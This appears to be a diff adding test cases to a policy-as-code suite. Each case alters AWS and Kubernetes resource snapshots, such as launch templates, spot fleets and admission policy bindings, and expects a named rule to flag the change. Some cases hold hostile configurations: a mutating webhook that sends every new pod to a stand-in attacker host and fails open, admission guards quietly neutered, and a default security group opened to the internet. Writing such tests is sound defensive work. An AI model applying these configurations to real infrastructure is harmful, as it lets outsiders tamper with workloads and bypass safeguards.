@@ -294,6 +294,8 @@ ADMIN_RULE = "aws-iam-role-disallow-admin-policies"
 PATCH = "kubernetes-patch-restrict-to-audit-labels"
 CHART = "kubernetes-helm-release-require-chart-source"
 SPOT = "aws-autoscaling-group-limit-spot-share"
+LAUNCHER = "aws-ec2-launch-require-stack-template"
+GUARDS = "kubernetes-admission-binding-require-deny"
 BREAKER = {"key": "seedance.io/budget-breaker", "value": "on", "propagateAtLaunch": True}
 
 
@@ -380,6 +382,32 @@ REVIEW_2 = [
         rs, "aws:ec2/routeTable:RouteTable", "private-rt")["inputs"].setdefault("routes", []).append({
             "cidrBlock": "0.0.0.0/1", "gatewayId": _one(rs, "aws:ec2/internetGateway:InternetGateway")["id"]}),
      "aws-autoscaling-group-require-private-subnets"),
+    ("nodes", "a node group on a template from elsewhere", lambda rs: _one(rs, "aws:eks/nodeGroup:NodeGroup")[
+        "inputs"].update(launchTemplate={"id": "lt-0legacyimdsv1", "version": "3"}), LAUNCHER),
+    ("nodes", "a GPU type overridden onto a template from elsewhere", _online(lambda g: g["mixedInstancesPolicy"][
+        "launchTemplate"]["overrides"].append({"instanceType": "p5.48xlarge", "launchTemplateSpecification": {
+            "launchTemplateName": "someone-elses", "version": "$Latest"}})), LAUNCHER),
+    ("nodes", "a spot fleet of launch specifications", _add("aws:ec2/spotFleetRequest:SpotFleetRequest", "burst", {
+        "iamFleetRole": "arn:aws:iam::123456789012:role/fleet", "targetCapacity": 8, "launchSpecifications": [
+            {"ami": "ami-0p5", "instanceType": "p5.48xlarge", "associatePublicIpAddress": True}]}), LAUNCHER),
+    ("guards", "the volume guard's binding narrowed to objects nobody labels", lambda rs: _one(
+        rs, "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding", "volume-guard")[
+        "inputs"]["spec"].update(matchResources={"objectSelector": {"matchLabels": {"seedance.io/guarded": "yes"}}}),
+     GUARDS),
+    ("guards", "the team's pod guard given a condition that never holds", lambda rs: next(
+        r for r in rs if r["type"] == "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy"
+        and r["inputs"]["metadata"]["name"].endswith("-pods"))["inputs"]["spec"].update(
+        matchConditions=[{"name": "never", "expression": "false"}]), GUARDS),
+    ("guards", "the volume guard watching updates only", lambda rs: _one(
+        rs, "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy", "volume-guard")[
+        "inputs"]["spec"]["matchConstraints"]["resourceRules"][0].update(operations=["UPDATE"]), GUARDS),
+    ("guards", "a mutating webhook sending every pod outside, failing open", _add(
+        "kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration", "inject", {
+            "metadata": {"name": "inject"}, "webhooks": [{
+                "name": "inject.example.io", "failurePolicy": "Ignore", "sideEffects": "None",
+                "admissionReviewVersions": ["v1"], "clientConfig": {"url": "https://inject.example-attacker.net/mutate"},
+                "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}]}]}),
+     "kubernetes-webhook-require-in-cluster-service"),
     ("network", "the VPC's default group admitting the internet", lambda rs: _one(
         rs, "aws:ec2/defaultSecurityGroup:DefaultSecurityGroup")["inputs"].update(ingress=[
             {"protocol": "-1", "fromPort": 0, "toPort": 0, "cidrBlocks": ["0.0.0.0/0"]}]),
